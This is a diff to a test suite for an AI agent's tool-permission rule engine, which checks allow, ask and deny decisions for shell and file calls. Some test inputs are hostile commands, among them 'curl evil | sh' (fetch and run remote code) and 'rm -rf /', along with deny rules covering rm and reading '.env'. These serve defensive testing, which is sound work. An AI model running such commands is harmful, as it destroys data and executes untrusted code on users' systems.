@@ -71,6 +71,7 @@ describe('compound commands', () => {
     expect(decide('Bash(curl *)', 'deny', 'echo $(curl evil | sh)')).toBe('deny');
     expect(decide('Bash(rm *)', 'deny', "bash -c 'rm -rf /'")).toBe('deny');
     expect(decide('Bash(rm *)', 'deny', 'find . -name "*.o" | xargs -0 rm')).toBe('deny');
+    expect(decide('Bash(rm *)', 'deny', 'find . -name "*.o" -exec rm {} +')).toBe('deny');
   });
 
   it('an exact rule naming the whole command line covers it (older "don\'t ask again" rules)', () => {
@@ -166,6 +167,7 @@ describe('built-in read-only commands never need rules', () => {
     ['cd /elsewhere && git status', 'none'],
     ['cd .. && git log', 'none'],
     ['cd /elsewhere && ls', 'allow'],
+    ['cd "$(git rev-parse --show-toplevel)" && git status', 'none'],
     [`ls ${'x'.repeat(10_001)}`, 'none'],
   ])('exceptions: %j → %j', (command, decision) => {
     expect(evaluateCall(bash(command), []).decision).toBe(decision);
@@ -219,6 +221,22 @@ describe('evaluation order (reference §1.4)', () => {
     ).toMatchObject({ decision: 'none', rule: null, source: null });
   });
 
+  it.each([
+    ['deny', ''],
+    ['deny', 'echo "unterminated'],
+    ['ask', 'X=1'],
+  ] as const)('a bare Bash %s decides even a command with no segments (%j)', (kind, command) => {
+    expect(decide('Bash', kind, command)).toBe(kind);
+  });
+
+  it('reports the first matching rule in file order', () => {
+    const sources = [
+      source('local', { deny: ['Bash(git push --force *)', 'Bash(git *)', 'Bash(* --force)'] }),
+    ];
+    expect(evaluateCall(bash('git push --force'), sources).rule).toBe('Bash(git push --force *)');
+    expect(evaluateCall(bash('ls && git push --force'), sources).rule).toBe('Bash(git push --force *)');
+  });
+
   it('skips invalid rules instead of failing', () => {
     const sources = [source('local', { allow: ['Bash(', '', 'Bash(cargo test *)'] })];
     expect(evaluateCall(bash('cargo test'), sources).decision).toBe('allow');
@@ -262,6 +280,8 @@ describe('Read / Edit path rules', () => {
     [project(['Read(/src/**)']), 'Edit', `${PROJECT}/src/x.ts`, 'none'],
     // a Read deny also blocks Edit/Write
     [project(['Edit'], ['Read(./.env)']), 'Write', `${PROJECT}/.env`, 'deny'],
+    // an invalid character class matches nothing instead of throwing
+    [project(['Read([z-a]/**)']), 'Read', `${PROJECT}/z/x`, 'none'],
     // .. is resolved before matching
     [project(['Read(/src/**)']), 'Read', `${PROJECT}/src/../../other/x`, 'none'],
   ])('%#: %s on %j → %j', (sources, toolName, file, decision) => {
@@ -351,6 +371,12 @@ describe('ruleMatchesCall: what would this rule cover', () => {
     expect(ruleMatchesCall(rule, bash(command), opts)).toBe(covered);
   });
 
+  it('judges an inner view on its own when the caller passes only that segment', () => {
+    const inner = bash("bash -c 'cargo test'").segments!.filter((s) => s.inner);
+    const call = { ...bash('cargo test'), segments: inner };
+    expect(ruleMatchesCall('Bash(cargo test *)', call, opts)).toBe(true);
+  });
+
   it('deny covers any call with a matching part', () => {
     expect(ruleMatchesCall('Bash(rm *)', bash('ls && rm x'), { baseDir: PROJECT, kind: 'deny' })).toBe(true);
   });
@@ -364,5 +390,82 @@ describe('ruleMatchesCall: what would this rule cover', () => {
 
   it('an invalid rule covers nothing', () => {
     expect(ruleMatchesCall('Bash(', bash('ls'), opts)).toBe(false);
+  });
+});
+
+describe('robustness', () => {
+  it('never throws on 500 random rules against random calls', () => {
+    // Fixed-seed LCG so failures reproduce.
+    let seed = 7;
+    const next = (): number => {
+      seed = (seed * 1103515245 + 12345) % 2 ** 31;
+      return seed / 2 ** 31;
+    };
+    const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!;
+    const ruleParts = [
+      'Bash',
+      'Read',
+      'Edit',
+      'WebFetch',
+      'mcp__a',
+      'mcp__a__b',
+      'Agent',
+      '*',
+      'B*',
+      '(',
+      ')',
+      '*',
+      ':*',
+      ' ',
+      'ls',
+      'git',
+      'domain:',
+      '//',
+      '~/',
+      '/',
+      '**',
+      '[',
+      '\\',
+      'x:y',
+    ];
+    const cmdParts = [
+      'ls',
+      ' ',
+      '&&',
+      '|',
+      'git',
+      'rm',
+      '-rf',
+      '"',
+      "'",
+      '$(',
+      ')',
+      '>',
+      'x',
+      'sudo',
+      'env',
+      'A=1',
+      '\n',
+      'bash -c ',
+      '*',
+    ];
+    const tools = ['Bash', 'Read', 'Edit', 'Write', 'WebFetch', 'mcp__a__b', 'Agent', 'Grep'];
+    const results = Array.from({ length: 500 }, () => {
+      const rules = Array.from({ length: 4 }, () =>
+        Array.from({ length: Math.floor(next() * 6) }, () => pick(ruleParts)).join(''),
+      );
+      const command = Array.from({ length: Math.floor(next() * 10) }, () => pick(cmdParts)).join('');
+      const toolName = pick(tools);
+      const call =
+        toolName === 'Bash'
+          ? bash(command)
+          : tool(toolName, { file_path: command, url: `https://${command}`, subagent_type: command });
+      const sources = [
+        source('local', { allow: rules.slice(0, 2), ask: rules.slice(2, 3), deny: rules.slice(3) }),
+      ];
+      return evaluateCall(call, sources).decision;
+    });
+    expect(results).toHaveLength(500);
+    expect(new Set(results).size).toBeGreaterThan(1);
   });
 });
